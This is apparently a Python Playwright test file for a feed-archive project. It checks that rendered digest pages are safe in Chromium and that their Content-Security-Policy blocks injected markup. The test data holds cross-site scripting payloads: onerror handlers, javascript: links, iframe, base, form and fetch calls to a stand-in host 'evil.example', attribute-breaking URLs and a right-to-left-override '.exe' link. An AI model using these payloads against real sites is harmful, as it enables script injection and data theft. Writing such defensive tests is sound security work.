"""The page of a digest in Chromium is safe: no request, no script, only its own markup, and only links to the web."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page

from feedarchive.digest.digest import make_digest
from feedarchive.pages.day_page import day_page as rendered_day
from feedarchive.pages.page_names import links_of, site_pages
from feedarchive.store.folder import FolderStore
from feedarchive.text import one_line, shorten
from tests.browser.archives import DAY, PAGES, build_everything
from tests.browser.chromium import Watched, structure
from tests.browser.hostile import LINKS, TEXTS, hostile_entries, hostile_items
from tests.harness.clock import Clock
from tests.harness.feed_archiver import FeedArchiver
from tests.harness.feed_documents import FEED

_ELEMENTS = frozenset(
    {"html", "head", "meta", "title", "style", "body", "header", "nav", "main", "section", "footer"}
    | {"h1", "h2", "h3", "p", "ul", "li", "a", "span", "bdi", "time", "details", "summary", "input", "label"}
)
_ATTRIBUTES = frozenset(
    {"lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "rel", "datetime", "open"}
    | {"aria-label", "aria-labelledby", "type", "for"}
)


def assert_only_own_markup(page: Page) -> None:
    """The page has only the template's elements and attributes, and links to the archive's files or to the web."""
    found = structure(page)
    assert set(found["elements"]) <= _ELEMENTS
    assert set(found["attributes"]) <= _ATTRIBUTES
    assert page.locator("style").count() == 1
    for written, leads_to, _ in found["links"]:
        scheme = urlsplit(leads_to).scheme
        if scheme == "file":
            assert not urlsplit(written).scheme
        else:
            assert scheme in {"http", "https"}
            assert written.startswith(f"{scheme}://")
            assert "@" not in urlsplit(leads_to).netloc
    assert len(set(found["ids"])) == len(found["ids"])


def assert_no_horizontal_scrolling(page: Page) -> None:
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


@pytest.fixture
def hostile_page(tmp_path: Path) -> Path:
    """A page of entries that were not cleaned."""
    path = tmp_path / PAGES / "index.html"
    path.parent.mkdir(parents=True)
    digest = make_digest(DAY, "UTC", hostile_entries())
    path.write_bytes(rendered_day(digest, links_of(site_pages(digest))))
    return path


def test_the_page_requests_nothing_and_its_policy_allows_its_style(watched: Watched, day_page: Path) -> None:
    page = watched.open(day_page)
    page.wait_for_load_state("networkidle")
    watched.assert_harmless(day_page)
    assert page.locator("script").count() == 0
    assert page.locator("ul").first.evaluate("e => getComputedStyle(e).listStyleType") == "none"


# For each attack: what the Content-Security-Policy reports as blocked, and the JavaScript of the attack.
_ATTACKS = [
    ("script-src-elem inline", "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; "
                               "document.body.append(s)"),
    ("script-src-attr inline", "add('<img src=x onerror=\"window.ran = 1\">')"),
    ("style-src-attr inline", "add('<p style=\"color: red\">x</p>')"),
    ("style-src-elem inline", "add('<style>p { color: red }</style>')"),
    ("frame-src https://evil.example", "add('<iframe src=\"https://evil.example/\"></iframe>')"),
    ("style-src-elem https://evil.example/x.css", "add('<link rel=stylesheet href=\"https://evil.example/x.css\">')"),
    ("base-uri https://evil.example/", "document.head.innerHTML += '<base href=\"https://evil.example/\">'"),
    ("form-action https://evil.example/?", "add('<form action=\"https://evil.example/\"></form>'); "
                                           "document.forms[0].submit()"),
    ("script-src-elem inline", "add('<a href=\"javascript:window.ran = 1\">x</a>'); "
                               "[...document.links].at(-1).click()"),
    ("connect-src https://evil.example/", "fetch('https://evil.example/').catch(() => 0)"),
]  # fmt: skip
_ATTACK = """() => {
  const add = html => document.body.insertAdjacentHTML("beforeend", html);
  window.violations = [];
  %s;
}"""


def test_the_policy_blocks_markup_that_got_into_the_page(watched: Watched, day_page: Path) -> None:
    page = watched.open(day_page)
    assert watched.violations() == []
    for violation, attack in _ATTACKS:
        page.evaluate(_ATTACK % attack)
        page.wait_for_function("violation => window.violations.includes(violation)", arg=violation)
        assert page.evaluate("window.ran") is None, attack
        assert page.url == day_page.as_uri(), attack
        assert [url for url in watched.requests if url not in watched.blocked] == [day_page.as_uri()], attack


def test_a_hostile_feed_makes_a_safe_page(watched: Watched, tmp_path: Path) -> None:
    archiver = FeedArchiver(FolderStore(tmp_path), Clock())
    items = hostile_items()
    for number, text in enumerate(TEXTS):
        # Each text is in a feed of its own, because some texts make their feed document unreadable.
        feed = f"{FEED}?{number}"
        archiver.poll(items[number], url=feed, title=text)
        archiver.poll(replace(items[number], text=f"{text} corrected"), url=feed, title=text)
    build_everything(tmp_path, Clock())
    day = tmp_path / PAGES / "index.html"
    page = watched.open(day)
    assert page.locator("a.title").count() > len(TEXTS)
    assert_only_own_markup(page)
    assert_no_horizontal_scrolling(page)
    trigger_handlers(page)
    watched.assert_harmless(day)


def test_texts_that_were_not_cleaned_are_displayed_as_text(watched: Watched, hostile_page: Path) -> None:
    page = watched.open(hostile_page)
    assert_only_own_markup(page)
    assert_no_horizontal_scrolling(page)
    displayed = set(page.locator("a.title, li bdi, h3 bdi").all_text_contents())
    for text in TEXTS:
        assert shorten(one_line(text), 300) in displayed
    assert "{{ 7*7 }}" in page.content()
    assert not set(page.content()) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x00")
    trigger_handlers(page)
    watched.assert_harmless(hostile_page)


def test_only_web_urls_become_links(watched: Watched, hostile_page: Path) -> None:
    links = structure(watched.open(hostile_page))["links"]
    web = {leads_to: label for _, leads_to, label in links if urlsplit(leads_to).scheme in {"http", "https"}}
    assert web == {
        "https://example.org/%22onmouseover=%22window.ran=1": "example.org",
        "https://example.org/'%3E%3Cimg%20src=x%20onerror=window.ran=1%3E": "example.org",
        "https://example.org/": "example.org",
        # Punycode shows that the host has a letter of another alphabet.
        "https://xn--exmple-4nf.org/cyrillic": "xn--exmple-4nf.org",
        "https://example.org/%E2%80%AEgpj.exe": "example.org",
    }
    assert not any(link in written for written, _, _ in links for link in LINKS[:9])


def trigger_handlers(page: Page) -> None:
    """Open every details element, and send events to every element, so that event handlers would run."""
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    page.evaluate(
        "document.querySelectorAll('body *').forEach(e => ['mouseover', 'focus', 'pointerenter', 'toggle']"
        ".forEach(name => e.dispatchEvent(new Event(name))))"
    )
